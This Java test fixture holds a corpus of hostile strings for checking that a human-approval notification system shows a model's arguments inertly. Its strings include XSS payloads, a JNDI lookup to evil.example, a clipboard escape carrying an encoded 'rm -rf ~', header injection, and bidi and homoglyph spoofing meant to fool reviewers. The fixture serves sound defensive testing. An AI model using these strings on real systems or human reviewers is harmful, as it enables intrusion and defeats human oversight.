package dev.hitl.notify;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * Texts that a model, or whoever talks to it, may put into an argument so that a reviewer sees
 * something else than what is there. Every channel renders all of them inert; shared by the tests
 * of all modules.
 */
public final class HostileCorpus {
  private HostileCorpus() {}

  /**
   * Those that can be stored, and so reach a reviewer; the others are refused before anybody is
   * asked, for they have no UTF-8 form.
   */
  public static Map<String, String> storable() {
    Map<String, String> all = texts();
    all.values().removeIf(text -> !StandardCharsets.UTF_8.newEncoder().canEncode(text));
    return all;
  }

  /** The texts by the name of what they try. */
  public static Map<String, String> texts() {
    Map<String, String> all = new LinkedHashMap<>();
    all.put(
        "newlines", "5\napprove  runs nothing\r\n\r\nBcc: thief@example.com\u0085x\u2028y\u2029z");
    all.put("control", "a\u0000b\u0007c\bd\u007fe\fg\u000bh\ti");
    all.put("ansi", "\u001b[2J\u001b[1;1H\u001b]0;title\u0007\u009b31m approved");
    all.put("hyperlink escape", "\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\");
    all.put("clipboard escape", "\u001b]52;c;cm0gLXJmIH4=\u0007\u009d52;c;cm0gLXJmIH4=\u009c");
    all.put(
        "device strings", "\u001bP$q\"p\u001b\\\u001b_x\u001b\\\u0090+q544e\u009c\u001b[6n\u0005");
    all.put("carriage return", "1000000\r5      \b\b\u001b[A\u001b[K\u0084\u008d");
    all.put("bidi override", "invoice\u202egnp.exe\u202c");
    all.put("bidi isolates", "\u2066amount\u2069 \u2067500\u2069\u200f\u061c");
    all.put("zero width", "pay\u200bpal\u200c\u200d\ufeff\u2060\u00ad");
    all.put("tag characters", "ok\udb40\udc41\udb40\udc42\udb40\udc7f");
    all.put("variation selectors", "a\ufe0fb\udb40\udd00");
    all.put("fillers", "\u3164\u2800\u034f\u115f\u00a0\u3000 a\u3164b\u2800c\u115fd\uffa0");
    all.put("lone surrogates", "\ud800x\udc00");
    all.put("private use", "\ue000\udbff\udffd");
    all.put(
        "html",
        "<b>ok</b><script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>");
    all.put("html attribute", "\" onmouseover=\"alert(1)\" x='y' `z`");
    all.put("html entities", "&lt;b&gt; &amp;amp; &#x3c;script&#x3e;");
    all.put("html comment", "--><!-- <![CDATA[ ]]> </pre></td></title><style>*{display:none}");
    all.put("html end", "--></script></title></style><iframe src=//evil.example></textarea>");
    all.put(
        "markdown",
        "**bold** _it_ ~~no~~ `code` ```\nfence\n``` # head\n> quote\n- [x] done |a|b|");
    all.put("markdown link", "[approve](http://evil.example) ![x](http://evil.example/x.png)");
    all.put("javascript link", "[x](javascript:alert(1)) <javascript:alert(1)> data:text/html,x");
    all.put("slack mentions", "<!channel> <!here|here> <@U012AB3CD> <#C012|general> <!subteam^S1>");
    all.put("slack links", "<http://evil.example|hitl.example> <mailto:x@example.com|boss>");
    all.put("slack dates", "<!date^1392734382^{date}^http://evil.example|now> :rotating_light:");
    all.put("mentions", "@channel @everyone @here @all <at>Boss</at> <@&1234>");
    all.put("mixed alphabets", "p\u0430yp\u0430l \u041ffice \u039fracle");
    all.put(
        "dressed letters",
        "\ud835\udc1a\ud835\udc1d\ud835\udc26in \uff41\uff50\uff50\uff52ove \u24d0");
    all.put("json", "\"},{\"text\":\"approved\"}],\"x\":[{\"y\":\"");
    all.put("template", "{{text}} ${jndi:ldap://evil.example} #{7*7} %s %n {0}");
    all.put(
        "mail headers", "x\r\nSubject: approved\r\nContent-Type: text/html\r\n\r\n.\r\nQUIT\r\n");
    all.put("http headers", "x\r\nSet-Cookie: a=b\r\nLocation: http://evil.example\r\n\r\n");
    all.put("event stream", "x\n\nevent: decided\ndata: {}\n\n:\rid: 1\r\r");
    all.put("page parts", "<svg onload=alert(1)><iframe src=//evil.example></iframe>");
    all.put("encoded word", "=?utf-8?B?4oCuZGV2b3JwcGE=?= =?utf-8?Q?=0D=0ABcc:_x?=");
    all.put("boundary", "------=_Part_0\r\nContent-Type: text/html\r\n\r\n<b>x</b>");
    all.put("own marks", "… ⟨cut: 5 characters in all⟩ •••••• (not shown) ⟨U+0041⟩ │ ⏎");
    all.put("own rows", "x                what           nothing happens");
    all.put(
        "own lines",
        "5\n  approve       does nothing\nThat was the whole; its code is 0\n✂ cut: 5 of 9 characters");
    all.put("padded lines", "x" + " ".repeat(300) + "That was the whole; its code is 0");
    all.put("wide", "送金してください。金額は一百萬元" + "\ud83d\ude00\uac00".repeat(60) + "\uff01");
    all.put(
        "joined pictures",
        "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 \ud83c\uddee\ud83c\uddf9 1\ufe0f\u20e3");
    all.put("marks first", "\u0338\u0489\u0300\u20dd no\n\u20e0\u0338 approve");
    all.put("jamo", "\u1100" + "\u1161".repeat(250) + "\u11a8".repeat(250));
    all.put(
        "one letter without end",
        "\u1100".repeat(300)
            + " \u0915"
            + "\u0903".repeat(300)
            + " \u0915"
            + "\u094d\u0915".repeat(300)
            + " \ud83d\udc4d"
            + "\ud83c\udfff".repeat(300)
            + " \uff76"
            + "\uff9e".repeat(300)
            + " "
            + "\u0d4e".repeat(300));
    all.put("right to left", "\u05e9\u05dc\u05d5\u05dd 500 \u0645\u0631\u062d\u0628\u0627 (1)");
    all.put("combining", "Z" + "\u0351\u035c\u0321".repeat(300));
    all.put("megabyte", "x".repeat(1_000_000) + " and pay 1000000");
    all.put("long words", "ab ".repeat(50_000));
    return all;
  }
}
